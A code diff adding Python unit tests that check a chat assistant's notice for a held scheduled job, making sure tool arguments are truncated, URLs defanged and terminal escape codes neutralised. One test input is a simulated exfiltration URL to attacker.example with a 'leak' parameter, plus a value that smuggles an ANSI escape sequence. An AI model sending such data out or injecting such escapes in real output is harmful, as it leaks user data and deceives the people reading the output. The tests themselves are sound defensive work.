@@ -146,3 +146,20 @@ def test_new_session_says_whether_a_summary_was_kept() -> None:
 
 def test_pairing_code_gives_the_owners_command() -> None:
     assert "bruce pairing approve K7Q2 (expires in 1 hour)" in texts.pairing_code("K7Q2")
+
+
+def test_a_held_run_notice_is_short_inert_and_names_job_tool_and_arguments():
+    arguments = '{"url": "https://attacker.example/c?leak=' + "x" * 300 + '", "note": "\x1b[2K`done`"}'
+    told = texts.job_held("ab12cd34ef", "web.read_url", arguments)
+    assert told.startswith("Scheduled job ab12cd34ef stopped before running web.read_url with `{")
+    shown = told.split("`", 2)[1]
+    assert len(shown) <= 200 and shown.endswith("...")
+    assert "https[:]//attacker[.]example/c?leak=" in shown and "://" not in told.replace("[:]//", "")
+    assert "bruce jobs cancel ab12cd34ef" in told
+    escaped = texts.job_held("j", "t", '{"a": "\x1b[2K`x`"}')
+    assert "\x1b" not in escaped and "^[[2K'x'" in escaped
+
+
+def test_unlinked_leaves_nothing_a_chat_client_would_link_but_keeps_numbers():
+    assert texts.unlinked("see http://a.example/x, b.example.com, mailto:me@c.org and 3.14") == (
+        "see http[:]//a[.]example/x, b[.]example[.]com, mailto[:]me@c[.]org and 3.14")
